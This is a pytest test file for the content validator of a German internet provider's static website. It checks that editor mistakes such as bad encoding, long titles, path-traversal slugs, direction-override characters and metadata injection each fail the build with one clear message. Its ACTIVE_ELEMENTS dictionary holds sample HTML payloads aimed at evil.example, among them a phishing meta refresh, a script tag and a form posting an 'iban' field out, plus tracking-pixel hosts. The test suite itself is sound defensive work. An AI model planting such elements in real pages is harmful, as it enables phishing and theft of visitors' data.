"""Mistakes a careless editor makes in articles, pages, FAQ entries and notices.

Each one gives one line `file: field: what was expected` (an error, or a
warning that the strict build of `invoke check` refuses), no traceback, and
leaves the previous `output/` byte for byte as it was.
"""

import pytest

from tests.outages.samples import COMPONENTS, RESOLVED
from tests.support.sites import build_fixture_site
from tests.support.trees import copy_site, snapshot

ARTICLE = """\
Title: Ein gültiger Beitrag
Date: 2026-11-01 10:00
Category: Kundendialog
Tags: Vertrauen
Authors: Miriam Albers
Summary: Ein kurzer Satz.

Text mit einem Absatz.
"""
PAGE = "Title: Impressum\n\nNordlicht Netz GmbH, Kiel.\n"
FAQ = ("Question: Wie melde ich eine Störung?\nCategory: Störung\nModified: 2026-11-01 10:00\n\n"
       "Über das Kundenportal oder telefonisch.\n")
GOOD = {
    "artikel/gut.md": ARTICLE,
    "seiten/impressum.md": PAGE,
    "faq/wie-melde-ich-eine-stoerung.md": FAQ,
    "status/komponenten.yml": COMPONENTS,
    "stoerungen/internet-stoerung-hamburg.md": RESOLVED,
    "bilder/foto.png": b"\x89PNG\r\n\x1a\n",
}


def article(**fields):
    """ARTICLE with header lines replaced (value None drops the line) or added."""
    lines = ARTICLE.split("\n\n", 1)[0].splitlines()
    header = {line.split(":", 1)[0]: line for line in lines}
    header["Title"] = "Title: Noch ein Beitrag"  # not the address of the good article
    for key, value in fields.items():
        key = key.replace("_", "-")
        header[key] = None if value is None else f"{key}: {value}"
    return "\n".join(line for line in header.values() if line) + "\n\nText mit einem Absatz.\n"


LATIN1 = b"Title: Umlaute\nDate: 2026-11-01\n\nZeile drei.\n\n" + "Grüße aus Kiel.\n".encode("cp1252")
LONG_TITLE = "Warum " + "sehr " * 99 + "lange Titel stören"  # 519 characters
TITLE_TOO_LONG_FOR_ADDRESS = ("Was Kundinnen und Kunden in Kiel, Plön und Eckernförde über den Glasfaserausbau "
                              "wissen sollten")
NOTICE = RESOLVED



def article_text(body):
    return article().replace("Text mit einem Absatz.", body)


def faq_answer(body):
    return FAQ.replace("Über das Kundenportal oder telefonisch.", body)


# An element that acts on its own, typed into a text as raw HTML.
ACTIVE_ELEMENTS = {
    "meta": '<meta http-equiv="refresh" content="1; url=https://evil.example/phish">',
    "base": '<base href="https://evil.example/">',
    "script": "<script>alert(1)</script>",
    "style": "<style>body { display: none }</style>",
    "link": '<link rel="stylesheet" href="https://evil.example/a.css">',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example/"><input name="iban"></form>',
}

# name → (file, text, strict, words the one problem must contain)
CASES = {
    "article not UTF-8": (
        "artikel/kaputt.md", LATIN1, False,
        ["content/artikel/kaputt.md:6: encoding: ", "line 6 is not UTF-8", "Grüße", "saved as UTF-8"]),
    "binary file saved as .md": (
        "artikel/foto.md", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", False,
        ["content/artikel/foto.md: file: ", "a PNG image, not text", "UTF-8"]),
    "binary data without a known signature": (
        "artikel/daten.md", b"Title: x\n\x00\x01\x02", False,
        ["content/artikel/daten.md: file: ", "binary data, not text"]),
    "article title of 519 characters": (
        "artikel/kaputt.md", article(Title=LONG_TITLE), False,
        ["content/artikel/kaputt.md: Title: ", "519 characters long", "at most 120"]),
    "title whose address is too long": (
        "artikel/kaputt.md", article(Title=TITLE_TOO_LONG_FOR_ADDRESS), False,
        ["content/artikel/kaputt.md: Title: ", "web address of 96 characters", "at most 80",
         "Slug: was-kundinnen-und-kunden-in-kiel-ploen-und-eckernfoerde-ueber-den"]),
    "slug of 90 characters": (
        "artikel/kaputt.md", article(Slug="a" * 90), False,
        ["content/artikel/kaputt.md: Slug: ", "90 characters long", "at most 80"]),
    "slug leaving the site": (
        "artikel/kaputt.md", article(Slug="../../etc"), False,
        ["content/artikel/kaputt.md: Slug: ", "'../../etc' is not a web address", "no '/'",
         "'Slug: etc'"]),
    "slug with a slash": (
        "artikel/kaputt.md", article(Slug="a/b"), False,
        ["content/artikel/kaputt.md: Slug: ", "'a/b' is not a web address", "'Slug: a-b'"]),
    "slug with capitals, space and umlaut": (
        "artikel/kaputt.md", article(Slug="Über uns"), False,
        ["content/artikel/kaputt.md: Slug: ", "'Über uns'", "'Slug: ueber-uns'"]),
    "unknown template": (
        "artikel/kaputt.md", article(Template="gibtsnicht"), False,
        ["content/artikel/kaputt.md: Template: ", "'gibtsnicht' is not a template of the theme",
         "expected one of article"]),
    "article without text": (
        "artikel/kaputt.md", article().split("\n\n")[0] + "\n\n", False,
        ["content/artikel/kaputt.md: text: ", "empty", "below the metadata"]),
    "article with only a comment as text": (
        "artikel/kaputt.md", article().split("\n\n")[0] + "\n\n<!-- kommt noch -->\n", False,
        ["content/artikel/kaputt.md: text: ", "empty"]),
    "image without description": (
        "artikel/kaputt.md", article(Image="{static}/bilder/foto.png"), False,
        ["content/artikel/kaputt.md: Image-Alt: ", "missing", "screen readers"]),
    "image with an empty description": (
        "artikel/kaputt.md", article(Image="{static}/bilder/foto.png", Image_Alt=" "), False,
        ["content/artikel/kaputt.md: Image-Alt: ", "missing"]),
    "tags line without a tag (strict)": (
        "artikel/kaputt.md", article(Tags=",,, ,"), True,
        ["content/artikel/kaputt.md: Tags: ", "',,, ,' holds no tag"]),
    # A short value cut over two lines is a mistake; texts may go on (see the test below).
    "article date going on over an indented line": (
        "artikel/kaputt.md", article(Date="2026-11-01\n    10:00"), False,
        ["content/artikel/kaputt.md:2: Date: ", "goes on over the indented line 3",
         "whole value on one line"]),
    "article category going on over an indented line": (
        "artikel/kaputt.md", article(Category="Kundendialog\n    Störung"), False,
        ["content/artikel/kaputt.md:3: Category: ", "indented line 4"]),
    "article slug going on over an indented line": (
        "artikel/kaputt.md", article(Slug="noch-ein-\n    beitrag"), False,
        ["content/artikel/kaputt.md:7: Slug: ", "indented line 8"]),
    "article title given twice": (
        "artikel/kaputt.md", article() .replace("Title: Noch ein Beitrag", "Title: A\nTitle: B"), False,
        ["content/artikel/kaputt.md: Title: ", "given 2 times; expected it once"]),
    # Dates: Modified is a change that happened, a time is one Berlin's clocks show once.
    "article modified in the future": (
        "artikel/kaputt.md", article(Modified="2027-11-01 10:00"), False,
        ["content/artikel/kaputt.md: Modified: ", "2027-11-01 10:00 is after now (2026-11-24 12:00)",
         "cannot lie in the future"]),
    "article modified before its date": (
        "artikel/kaputt.md", article(Modified="2026-10-01 10:00"), False,
        ["content/artikel/kaputt.md: Modified: ", "2026-10-01 10:00 is before Date 2026-11-01 10:00"]),
    "article date the clocks skip": (
        "artikel/kaputt.md", article(Date="2026-03-29 02:30"), False,
        ["content/artikel/kaputt.md: Date: ", "'2026-03-29 02:30' does not exist in Europe/Berlin",
         "2026-03-29 02:30+01:00"]),
    "article date the clocks show twice": (
        "artikel/kaputt.md", article(Date="2026-10-25 02:30"), False,
        ["content/artikel/kaputt.md: Date: ", "happens twice", "2026-10-25 02:30+02:00"]),
    "page modified in the future": (
        "seiten/kaputt.md", "Title: Kontakt\nModified: 2026-12-24 10:00\n\nText.\n", False,
        ["content/seiten/kaputt.md: Modified: ", "is after now"]),
    "FAQ modified in the future": (
        "faq/kaputt.md", FAQ.replace("Modified: 2026-11-01 10:00", "Modified: 2027-11-01 10:00"), False,
        ["content/faq/kaputt.md: Modified: ", "2027-11-01 10:00 is after now"]),
    "FAQ modified at a time the clocks show twice": (
        "faq/kaputt.md", FAQ.replace("Modified: 2026-11-01 10:00", "Modified: 25.10.2026 02:30"), False,
        ["content/faq/kaputt.md: Modified: ", "happens twice"]),
    # The site is German only.
    "article in English": (
        "artikel/kaputt.md", article(Lang="en"), False,
        ["content/artikel/kaputt.md: Lang: ", "'en' is not the language of the site", "expected 'de'"]),
    "page in English": (
        "seiten/kaputt.md", "Title: Contact\nLang: en\n\nHow to reach us.\n", False,
        ["content/seiten/kaputt.md: Lang: ", "'en' is not the language of the site"]),
    "article marked as a translation": (
        "artikel/kaputt.md", article(Translation="true"), False,
        ["content/artikel/kaputt.md: Translation: ", "unknown metadata key"]),
    # Values Pelican would report without the file, or with its own words.
    "article status in German": (
        "artikel/kaputt.md", article(Status="Entwurf"), False,
        ["content/artikel/kaputt.md: Status: ", "'entwurf' is unknown",
         "expected one of published, draft, hidden"]),
    "page status unknown": (
        "seiten/kaputt.md", "Title: Kontakt\nStatus: versteckt\n\nText.\n", False,
        ["content/seiten/kaputt.md: Status: ", "'versteckt' is unknown"]),
    "category without a letter": (
        "artikel/kaputt.md", article(Category="???"), False,
        ["content/artikel/kaputt.md: Category: ", "'???' gives no web address", "letters or digits"]),
    "tag without a letter": (
        "artikel/kaputt.md", article(Tags="Vertrauen, !!!"), False,
        ["content/artikel/kaputt.md: Tags: ", "'!!!' gives no web address"]),
    "FAQ tag without a letter": (
        "faq/kaputt.md", FAQ.replace("Category:", "Tags: ???\nCategory:"), False,
        ["content/faq/kaputt.md: Tags: ", "'???' gives no web address"]),
    "notice tag without a letter": (
        "stoerungen/kaputt.md", NOTICE.replace("Slug: internet-stoerung-hamburg", "Slug: zweite\nTags: ..."),
        False, ["content/stoerungen/kaputt.md: Tags: ", "'...' gives no web address"]),
    "raw image with an unquoted src but no alt": (
        "artikel/kaputt.md", article_text("<img src=/bilder/foto.png>"), False,
        ["content/artikel/kaputt.md: image /bilder/foto.png: ", "no alt text"]),
    "raw image with only a data-alt": (
        "artikel/kaputt.md", article_text('<img src="/bilder/foto.png" data-alt="Foto">'), False,
        ["content/artikel/kaputt.md: image /bilder/foto.png: ", "no alt text"]),
    "article title with a direction override": (
        "artikel/kaputt.md", article(Title="Neue Tarife \u202eab Januar"), False,
        ["content/artikel/kaputt.md: Title: ", "U+202E", "type it again"]),
    "FAQ question with a direction isolate": (
        "faq/kaputt.md", FAQ.replace("Wie melde", "\u2067Wie melde"), False,
        ["content/faq/kaputt.md: Question: ", "U+2067"]),
    "notice title with a direction override": (
        "stoerungen/kaputt.md", NOTICE.replace("Internet-Störung", "Internet-\u202dStörung"), False,
        ["content/stoerungen/kaputt.md:1: Title: ", "U+202D"]),
    # What a text may not contain (raw HTML is Markdown's, the feeds carry it unchanged).
    **{f"article with a <{tag}> element": (
        "artikel/kaputt.md", article_text(f"Text.\n\n{html}\n"), False,
        ["content/artikel/kaputt.md: text: ", f"{'an' if tag in ('iframe', 'object', 'embed') else 'a'} "
                                            f"<{tag}> element", "expected Markdown text only"])
       for tag, html in ACTIVE_ELEMENTS.items()},
    "article with a tracking image from another host": (
        "artikel/kaputt.md", article_text("![Ein Zähler](https://tracker.example/pixel.gif)"), False,
        ["content/artikel/kaputt.md: image https://tracker.example/pixel.gif: ", "from another host",
         "{static}/bilder/"]),
    "article with an unquoted raw image from another host": (
        "artikel/kaputt.md", article_text("<img src=//tracker.example/p.gif alt=Zähler>"), False,
        ["content/artikel/kaputt.md: image //tracker.example/p.gif: ", "from another host"]),
    "article with a srcset from another host": (
        "artikel/kaputt.md", article_text('<img src="/bilder/foto.png" alt="Foto" '
                                          'srcset="/bilder/foto.png 1x, https://cdn.example/f.png 2x">'), False,
        ["content/artikel/kaputt.md: image https://cdn.example/f.png: ", "from another host"]),
    "article with a video from another host": (
        "artikel/kaputt.md", article_text('<video controls src="https://cdn.example/v.mp4"></video>'), False,
        ["content/artikel/kaputt.md: <video> https://cdn.example/v.mp4: ", "from another host"]),
    "article with a background image from another host": (
        "artikel/kaputt.md", article_text('<p style="background: url(https://t.example/p.gif)">Text</p>'),
        False, ["content/artikel/kaputt.md: <p> https://t.example/p.gif: ", "from another host"]),
    "article with a link that reports clicks": (
        "artikel/kaputt.md", article_text('<a href="/faq/" ping="https://t.example/p">FAQ</a>'), False,
        ["content/artikel/kaputt.md: <a> ping: ", "reports each click"]),
    "page with an iframe": (
        "seiten/kaputt.md", 'Title: Kontakt\n\n<iframe src="https://maps.example/"></iframe>\n', False,
        ["content/seiten/kaputt.md: text: ", "an <iframe> element"]),
    "FAQ answer with a meta refresh": (
        "faq/kaputt.md", faq_answer(ACTIVE_ELEMENTS["meta"]), False,
        ["content/faq/kaputt.md: text: ", "a <meta> element", "another site"]),
    "FAQ answer with an image from another host": (
        "faq/kaputt.md", faq_answer("So: ![Ein Zähler](https://tracker.example/pixel.gif)"), False,
        ["content/faq/kaputt.md: image https://tracker.example/pixel.gif: ", "from another host"]),
    # Pages: the same fields, the same rules.
    "page slug with a slash": (
        "seiten/kaputt.md", "Title: Kontakt\nSlug: kontakt/team\n\nSo erreichen Sie uns.\n", False,
        ["content/seiten/kaputt.md: Slug: ", "'kontakt/team' is not a web address"]),
    "page with unknown template": (
        "seiten/kaputt.md", "Title: Kontakt\nTemplate: kontaktseite\n\nSo erreichen Sie uns.\n", False,
        ["content/seiten/kaputt.md: Template: ", "'kontaktseite'", "expected one of page"]),
    "page without text": (
        "seiten/kaputt.md", "Title: Kontakt\n\n", False,
        ["content/seiten/kaputt.md: text: ", "empty", "the page"]),
    "page title of 519 characters": (
        "seiten/kaputt.md", f"Title: {LONG_TITLE}\n\nText.\n", False,
        ["content/seiten/kaputt.md: Title: ", "519 characters long"]),
    "page image without description": (
        "seiten/kaputt.md", "Title: Kontakt\nImage: {static}/bilder/foto.png\n\nText.\n", False,
        ["content/seiten/kaputt.md: Image-Alt: ", "missing"]),
    "page not UTF-8": (
        "seiten/kaputt.md", b"Title: Kontakt\n\n" + "Straße 1\n".encode("latin-1"), False,
        ["content/seiten/kaputt.md:3: encoding: ", "line 3 is not UTF-8"]),
    # FAQ entries: Question is their title, the file name their address.
    "FAQ entry not UTF-8": (
        "faq/kaputt.md", FAQ.encode().replace("Über".encode(), "Über".encode("cp1252")), False,
        ["content/faq/kaputt.md:5: encoding: ", "line 5 is not UTF-8", "Über"]),
    "FAQ question of 520 characters": (
        "faq/kaputt.md", FAQ.replace("Wie melde ich eine Störung?", LONG_TITLE + "?"), False,
        ["content/faq/kaputt.md: Question: ", "520 characters long", "at most 120"]),
    "FAQ slug leaving the site": (
        "faq/kaputt.md", FAQ.replace("Category:", "Slug: ../impressum\nCategory:"), False,
        ["content/faq/kaputt.md: Slug: ", "'../impressum' is not a web address"]),
    "FAQ file name too long for an address": (
        "faq/" + "wie-" * 25 + "melde-ich.md", FAQ, False,
        ["content/faq/" + "wie-" * 25 + "melde-ich.md: file name: ", "109 characters", "at most 80"]),
    "FAQ entry without an answer": (
        "faq/kaputt.md", FAQ.split("\n\n")[0] + "\n\n", False,
        ["content/faq/kaputt.md: text: ", "empty", "the answer"]),
    "FAQ modified going on over an indented line": (
        "faq/kaputt.md", FAQ.replace("Modified: 2026-11-01 10:00", "Modified: 2026-11-01\n    10:00"), False,
        ["content/faq/kaputt.md:3: Modified: ", "indented line 4"]),
    "FAQ order going on over an indented line": (
        "faq/kaputt.md", FAQ.replace("Category:", "Order: 1\n    2\nCategory:"), False,
        ["content/faq/kaputt.md:2: Order: ", "indented line 3"]),
    "FAQ tags without a tag (strict)": (
        "faq/kaputt.md", FAQ.replace("Category:", "Tags: ,\nCategory:"), True,
        ["content/faq/kaputt.md: Tags: ", "',' holds no tag"]),
    # Only Markdown passes the checks: other formats Pelican reads are refused.
    "article as reStructuredText": (
        "artikel/anders.rst", "Ziel\n####\n\n:date: 2026-11-01 10:00\n:save_as: index.html\n\nText.\n", False,
        ["content/artikel/anders.rst: file type: ", "'.rst' files are not read", "Markdown file (.md)"]),
    "page as HTML": (
        "seiten/export.html", '<html><head><title>Export</title><meta name="save_as" content="index.html">'
        "</head><body>Text</body></html>", False,
        ["content/seiten/export.html: file type: ", "'.html' files are not read"]),
    # Outage notices: the header fields they share with the others.
    "notice not UTF-8": (
        "stoerungen/kaputt.md", NOTICE.encode().replace(b"Langsame", "Langsame für".encode("cp1252")),
        False, ["content/stoerungen/kaputt.md:11: encoding: ", "line 11 is not UTF-8"]),
    "notice title of 519 characters": (
        "stoerungen/kaputt.md", NOTICE.replace("Internet-Störung in Hamburg", LONG_TITLE), False,
        ["content/stoerungen/kaputt.md:1: Title: ", "519 characters long"]),
    "notice slug with a slash": (
        "stoerungen/kaputt.md", NOTICE.replace("Slug: internet-stoerung-hamburg", "Slug: hamburg/internet"),
        False, ["content/stoerungen/kaputt.md:2: Slug: ", "'hamburg/internet' is not a web address"]),
    "notice title whose address is too long": (
        "stoerungen/kaputt.md", NOTICE.replace("Slug: internet-stoerung-hamburg\n", "").replace(
            "Internet-Störung in Hamburg", TITLE_TOO_LONG_FOR_ADDRESS), False,
        ["content/stoerungen/kaputt.md:1: Title: ", "web address of 96 characters", "at most 80"]),
    "notice start going on over an indented line": (
        "stoerungen/kaputt.md", NOTICE.replace("Start: 2026-11-22 10:00", "Start: 2026-11-22\n    10:00"),
        False, ["content/stoerungen/kaputt.md:6: Start: ", "indented line 7", "whole value on one line"]),
    "notice start cut inside the time": (
        "stoerungen/kaputt.md", NOTICE.replace("Start: 2026-11-22 10:00", "Start: 2026-11-22 10:\n    00"),
        False, ["content/stoerungen/kaputt.md:6: Start: ", "indented line 7"]),
    "notice slug going on over an indented line": (
        "stoerungen/kaputt.md", NOTICE.replace("Slug: internet-stoerung-hamburg",
                                               "Slug: internet-\n    stoerung-hamburg"),
        False, ["content/stoerungen/kaputt.md:2: Slug: ", "indented line 3"]),
    "notice tags without a tag (strict)": (
        "stoerungen/kaputt.md", NOTICE.replace("Slug: internet-stoerung-hamburg", "Slug: zweite\nTags: ,,"),
        True, ["content/stoerungen/kaputt.md: Tags: ", "',,' holds no tag"]),
}


@pytest.fixture(scope="module")
def good_site(tmp_path_factory):
    """A small site with every content type, built once; each case starts from a copy."""
    base = tmp_path_factory.mktemp("good")
    result, _output = build_fixture_site(base, GOOD)
    assert result.ok and not result.warnings, result.report()
    return base


@pytest.mark.parametrize("case", sorted(CASES))
def test_mistake_gives_one_line_naming_file_and_field_and_keeps_output(good_site, tmp_path, case):
    path, text, strict, words = CASES[case]
    site = copy_site(good_site, tmp_path / "site")
    before = snapshot(site / "output")
    result, output = build_fixture_site(site, {path: text}, strict=strict)
    assert not result.ok, result.report()
    problems = result.problems if strict else result.errors
    assert len(problems) == 1, result.report()
    if strict:
        assert problems[0].level == "warning", result.report()
    for word in words:
        assert word in problems[0].message, problems[0].message
    report = result.report()
    assert "Traceback" not in report and "Errno" not in report
    assert "\n" not in problems[0].message
    assert snapshot(output) == before, "a failed build must leave output/ exactly as it was"
    assert not list(site.glob("output.*")), "staging directory left behind"


def test_warnings_show_in_a_normal_build_which_still_succeeds(tmp_path):
    result, _ = build_fixture_site(tmp_path, {**GOOD, "artikel/gut.md": article(Tags=", ,")})
    assert result.ok, result.report()
    assert [p.message for p in result.warnings] == [
        "content/artikel/gut.md: Tags: ', ,' holds no tag; expected tags separated by commas, "
        "e.g. 'Tags: Störung, Kiel', or no Tags line"]


def test_what_the_rules_still_allow(tmp_path):
    """The limits are limits, not more: an empty draft, an empty Tags line, a long
    title with a short Slug, a 120-character title, a BOM, Windows line ends."""
    title_120 = ("Warum wir " + "x" * 110)[:120]
    files = {
        **GOOD,
        "artikel/entwurf.md": article(Title="Ein Entwurf", Status="draft").split("\n\n")[0] + "\n\n",
        "artikel/ohne-tags.md": article(Title="Ohne Schlagworte", Tags=""),
        "artikel/lang.md": article(Title=TITLE_TOO_LONG_FOR_ADDRESS, Slug="glasfaser-fuer-kiel"),
        "artikel/120.md": article(Title=title_120, Slug="grenze"),
        "artikel/bom.md": "\ufeff" + article(Title="Mit BOM").replace("\n", "\r\n"),
        "faq/entwurf.md": FAQ.replace("Category:", "Status: draft\nCategory:").split("\n\n")[0] + "\n\n",
        "seiten/mit-bild.md": "Title: Team\nImage: {static}/bilder/foto.png\nImage-Alt: Das Team\n\nText.\n",
        # Own images, links to other sites, and HTML shown as code are text.
        "artikel/bilder.md": article_text(
            "![Foto]({static}/bilder/foto.png) <img src=\"/bilder/foto.png\" alt=\"Foto\"> "
            "[Verbraucherzentrale](https://www.verbraucherzentrale.de/) `<script>` und "
            "`<meta http-equiv=\"refresh\">`").replace("Noch ein Beitrag", "Mit Bildern"),
        "artikel/deutsch.md": article(Title="Ausdrücklich deutsch", Lang="DE"),
        "artikel/versteckt.md": article(Title="Versteckt", Status="Hidden"),
        "artikel/unquoted.md": article_text("<img src=/bilder/foto.png alt=Foto>").replace(
            "Noch ein Beitrag", "Ohne Anführungszeichen"),
        "faq/bild.md": faq_answer("![Foto]({static}/bilder/foto.png) <a href=\"https://example.org/\">Mehr</a>"),
    }
    result, output = build_fixture_site(tmp_path, files, strict=True)
    assert result.ok, result.report()
    assert (output / "artikel" / "glasfaser-fuer-kiel" / "index.html").exists()
    assert (output / "artikel" / "grenze" / "index.html").exists()
    assert (output / "artikel" / "mit-bom" / "index.html").exists()
    assert (output / "team" / "index.html").exists()
    assert (output / "artikel" / "ausdruecklich-deutsch" / "index.html").exists()
    assert not list(output.glob("*-de.html")) and not list(output.glob("*-DE.html"))


def test_long_values_go_on_over_indented_lines_as_one_text(tmp_path):
    """A title, question or tag list wrapped onto an indented line is one value
    (the lines of a text joined with a space, of a list as more items), in the
    page, its <title>, the feeds and the status API; never a Python list."""
    import json

    wrapped_title = "Warum wir Störungen öffentlich machen –\n    und was das bringt"
    files = {
        **GOOD,
        "artikel/gut.md": article(Title=wrapped_title, Tags="Vertrauen,\n    Transparenz\n    Kiel",
                                  Slug="warum"),
        "faq/wie-lange.md": FAQ.replace("Question: Wie melde ich eine Störung?",
                                        "Question: Wie lange dauert es,\n    bis die Störung behoben ist?"),
        "stoerungen/internet-stoerung-hamburg.md": RESOLVED.replace(
            "Title: Internet-Störung in Hamburg", "Title: Internet-Störung\n    in Hamburg"),
    }
    result, output = build_fixture_site(tmp_path, files, strict=True)
    assert result.ok, result.report()
    title = "Warum wir Störungen öffentlich machen – und was das bringt"
    page = (output / "artikel" / "warum" / "index.html").read_text()
    assert f"<h1>{title}</h1>" in page and f"<title>{title} – " in page
    assert "[&#39;" not in page and "['" not in page
    assert f"<title>{title}</title>" in (output / "feeds" / "all.atom.xml").read_text()
    for tag in ("vertrauen", "transparenz", "kiel"):
        assert (output / "themen" / tag / "index.html").exists(), tag
    question = "Wie lange dauert es, bis die Störung behoben ist?"
    assert f"<h1>{question}</h1>" in (output / "faq" / "wie-lange" / "index.html").read_text()
    incidents = json.loads((output / "api" / "v2" / "incidents.json").read_text())["incidents"]
    assert [i["name"] for i in incidents] == ["Internet-Störung in Hamburg"]


def test_times_around_the_clock_change_with_an_offset_are_kept(tmp_path):
    """The second 02:30 of 25 October, written with +01:00, stays winter time;
    Modified may equal Date and may be "now"."""
    files = {**GOOD, "artikel/gut.md": article(Date="2026-10-25 02:30+01:00", Modified="2026-11-24 12:00",
                                               Slug="umstellung")}
    result, output = build_fixture_site(tmp_path, files, strict=True)
    assert result.ok, result.report()
    page = (output / "artikel" / "umstellung" / "index.html").read_text()
    assert '"datePublished": "2026-10-25T02:30:00+01:00"' in page or \
        '"datePublished":"2026-10-25T02:30:00+01:00"' in page, page
    assert "2026-10-25T02:30:00+02:00" not in page


def test_new_post_keeps_each_value_on_its_line(tmp_path):
    """A line break typed into --category, --tags or --author (e.g. $'Kat\\nX: y')
    would start a metadata line of its own."""
    from editorial.scaffold import new_post

    path = new_post("Glasfaser für Kiel", content_path=str(tmp_path / "content"), category="Kat\nSlug: index",
                    tags="a,\r\nSave_as: index.html", author="Miriam\tAlbers\nStatus: published",
                    settings={"SITE_NOW": "2026-11-01T10:00:00+01:00"})
    with open(path, encoding="utf-8") as handle:
        header = handle.read().split("\n\n", 1)[0].splitlines()
    assert [line.split(":", 1)[0] for line in header] == [
        "Title", "Date", "Category", "Tags", "Authors", "Summary"]
    assert "Category: Kat Slug: index" in header
    assert "Authors: Miriam Albers Status: published" in header


def test_new_post_with_a_long_title_gets_a_slug_line_that_builds(tmp_path):
    from editorial.scaffold import ScaffoldError, new_post

    path = new_post(TITLE_TOO_LONG_FOR_ADDRESS, content_path=str(tmp_path / "content"),
                    author="Miriam Albers", settings={"SITE_NOW": "2026-11-01T10:00:00+01:00"})
    with open(path, encoding="utf-8") as handle:
        text = handle.read()
    slug = "was-kundinnen-und-kunden-in-kiel-ploen-und-eckernfoerde-ueber-den"
    assert path.endswith(f"artikel/{slug}.md")
    assert f"\nSlug: {slug}\n" in text
    result, output = build_fixture_site(tmp_path, {})
    assert result.ok, result.report()
    assert (output / "artikel" / slug / "index.html").exists()
    with pytest.raises(ScaffoldError, match="519 characters long; expected at most 120"):
        new_post(LONG_TITLE, content_path=str(tmp_path / "content"))


def test_new_faq_with_a_long_question_gets_a_short_file_name(tmp_path):
    from faq.scaffold import ScaffoldError, new_faq

    question = "Was muss ich tun, wenn mein Internet nach dem Umzug in eine neue Wohnung in Kiel nicht funktioniert?"
    path = new_faq(question, "Störung", content_path=str(tmp_path / "content"))
    name = path.rsplit("/", 1)[1]
    assert name == "was-muss-ich-tun-wenn-mein-internet-nach-dem-umzug-in-eine-neue-wohnung-in-kiel.md"
    assert len(name) - 3 <= 80
    with pytest.raises(ScaffoldError, match="at most 120"):
        new_faq(LONG_TITLE + "?", "Störung", content_path=str(tmp_path / "content"))
